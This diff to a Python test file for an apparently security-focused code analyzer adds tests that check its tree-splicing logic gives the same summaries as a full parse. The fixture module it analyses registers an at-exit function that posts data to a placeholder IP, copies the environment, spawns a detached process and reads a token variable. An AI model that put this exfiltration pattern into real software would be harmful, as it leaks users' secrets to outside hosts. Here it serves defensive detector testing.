@@ -223,9 +223,9 @@ def _reading_sides(monkeypatch) -> list[str]:
     read: list[str] = []
     summaries = delta._summaries
 
-    def recorded(path: str, text: str):  # type: ignore[no-untyped-def]
+    def recorded(path: str, text: str, *like):  # type: ignore[no-untyped-def]
         read.append(text)
-        return summaries(path, text)
+        return summaries(path, text, *like)
 
     monkeypatch.setattr(delta, "_summaries", recorded)
     return read
@@ -331,6 +331,88 @@ def test_the_models_walk_agrees_with_the_rule_helpers():
         assert bindings == _support.single_bindings(module)
         assert counters == logic_bombs._global_counters(module)
     assert tree.module_names(libcst.parse_module(SHAPES))[2] == {"counter"}
+
+
+def _rendered(summary) -> list:  # type: ignore[no-untyped-def]
+    """What a summary says, with nodes as their code (trees made apart have different nodes)."""
+    code = libcst.Module(body=[]).code_for_node
+    out: list = [list(summary.aliases.items()), summary.classes, summary.imports]
+    for scope in summary.scopes.values():
+        out.append((scope.qualname, scope.params, scope.context, scope.klass, scope.reads_files, sorted(scope.net),
+                    [(fact.kind, fact.detail, fact.grade, fact.host, sorted(fact.tokens), code(fact.node), guards)
+                     for fact, guards in scope.facts],
+                    [(edge.key, edge.verb, edge.guard, code(edge.node)) for edge in scope.edges],
+                    [(what, code(arg), code(call)) for what, arg, call in scope.sinks],
+                    [(name, code(value)) for name, value in scope.assigns], [code(r) for r in scope.returns],
+                    [(name, code(value)) for name, value in scope.handles.items()], [code(w) for w in scope.walks]))
+    return out
+
+
+SPLICED = '''"""A module."""
+import os, subprocess
+HOST = "http://203.0.113.7"  # a comment
+
+
+@atexit.register
+def ship(data):
+    requests.post(HOST, data=data)
+a = 1; b = os.environ.copy()
+x = [1,
+     2]
+if os.environ.get("CI"): subprocess.run(["make"])
+\x0c
+class Agent(Base):
+    """\u2028 held in a string, \x0c too"""
+    def run(self):
+        subprocess.Popen(["/usr/local/bin/agent"], start_new_session=True)
+'''
+
+
+@pytest.mark.parametrize("before", [
+    SPLICED.replace("a = 1; b", "a = 2; b"),  # the `a; b` line changed
+    SPLICED.replace("@atexit.register\n", ""),  # a decorator removed
+    SPLICED.replace('HOST = "http', 'HOST = "https'),  # a constant the calls render
+    SPLICED.replace("import os, subprocess", "import os, subprocess as requests"),  # an import
+    SPLICED.replace("x = [1,", 'x = """\n[1,').replace("     2]\n", '     2]\n"""\n'),  # lines that were a string
+    SPLICED.replace("\n\n\n@atexit", '\n\n_ = """\n@atexit').replace("data=data)\n", 'data=data)\n"""\n'),
+    SPLICED.replace("\n", "\r\n"),  # every line ending differs
+    SPLICED.replace("x = [1,", "x = 0 + \\\n[1,"),  # a backslash before a statement
+    SPLICED.replace("    def run", "    def _run"),
+    SPLICED + "def helper(:\n",  # not Python: adds nothing
+    "",
+])
+def test_the_tree_before_a_change_reuses_unchanged_statements_and_summarises_the_same(before):
+    from analyzer.engines.cst.capabilities import splice
+
+    for old, new in ((before, SPLICED), (SPLICED, before)):
+        full = parse_module_or_none(old)
+        new_tree = parse_module_or_none(new)
+        if new_tree is None:
+            continue
+        spliced = splice.tree_before("m.py", old, new, new_tree)
+        assert (spliced is None) == (full is None)
+        if full is not None:
+            assert _rendered(summarise("m.py", spliced)) == _rendered(summarise("m.py", full))
+
+
+def parse_module_or_none(text: str) -> libcst.Module | None:
+    from analyzer import parse
+
+    return parse.parse_source("m.py", text).module
+
+
+def test_the_tree_before_a_change_takes_the_unchanged_statements_from_the_tree_after_it():
+    from analyzer.engines.cst.capabilities import splice
+
+    after = SPLICED + "DEBUG_TOKEN = __import__('os').environ.get('DEBUG_TOKEN', '')\n"
+    after_tree = parse_module_or_none(after)
+    spliced = splice.tree_before("m.py", SPLICED, after, after_tree)
+    assert len(spliced.body) == len(after_tree.body) - 1
+    assert all(old is new for old, new in zip(spliced.body, after_tree.body))  # nothing parsed again
+    changed = SPLICED.replace("a = 1; b", "a = 2; b")
+    spliced = splice.tree_before("m.py", changed, after, after_tree)
+    assert [old is new for old, new in zip(spliced.body, after_tree.body)] == [
+        True, True, True, True, False, True, True, True]
 
 
 def _index(files: dict[str, str]) -> graph.Index:
